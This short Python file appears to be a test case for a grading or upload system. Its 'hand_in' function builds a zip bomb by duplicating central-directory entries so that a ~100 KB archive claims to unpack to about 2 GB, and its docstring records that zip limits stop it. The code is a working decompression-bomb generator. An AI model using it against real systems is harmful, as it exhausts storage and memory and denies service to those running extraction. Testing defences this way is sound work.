"""Lets two thousand members share one megabyte: 2 GB in a file of 100 KB.

stopped by: limits of zips
unfenced: held
status: ungradable
says: would unpack to
"""


def hand_in(folder, values):
    import io
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("work.py", bytes(1 << 20))
    data = packed.getvalue()
    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entries, count = data[start:end] * 2000, (2000).to_bytes(2, "little")
    tail = data[end : end + 8] + count + count + len(entries).to_bytes(4, "little") + data[end + 16 :]
    (folder / f"{values['CASE']}.zip").write_bytes(data[:start] + entries + tail)
